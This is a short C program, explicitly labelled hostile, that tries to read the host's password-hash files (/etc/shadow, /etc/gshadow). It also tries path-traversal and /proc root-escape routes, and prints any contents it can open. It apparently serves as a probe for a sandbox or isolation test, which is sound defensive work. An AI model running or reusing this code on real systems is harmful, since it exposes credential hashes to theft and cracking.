/* Hostile: wants the host's password hashes. Prints what it can open, and fails if that is nothing. */
#include <stdio.h>

static const char *const secrets[] = {
    "/etc/shadow", "/etc/gshadow", "/etc/shadow-", "../../../../etc/shadow",
    "/proc/self/root/etc/shadow", "/proc/1/root/etc/shadow", "/proc/self/cwd/../etc/shadow",
};

int main(void)
{
    int opened = 0;
    for (size_t i = 0; i < sizeof secrets / sizeof *secrets; i++) {
        FILE *file = fopen(secrets[i], "r");
        if (!file)
            continue;
        opened++;
        char line[512];
        while (fgets(line, sizeof line, file))
            fputs(line, stdout);
        fclose(file);
    }
    return opened ? 0 : 1;
}
